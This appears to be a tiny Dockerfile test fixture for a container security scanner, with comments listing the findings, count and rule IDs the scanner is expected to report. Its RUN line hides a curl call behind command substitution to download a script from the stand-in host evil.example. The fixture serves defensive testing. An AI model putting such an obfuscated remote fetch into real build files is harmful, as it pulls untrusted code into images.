FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN $(echo curl) -o /z https://evil.example/x.sh
USER app
# expect: code 2 high "runs a command whose name is decided when it runs"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR702-ed3954e66f VR501-e064bac1a6
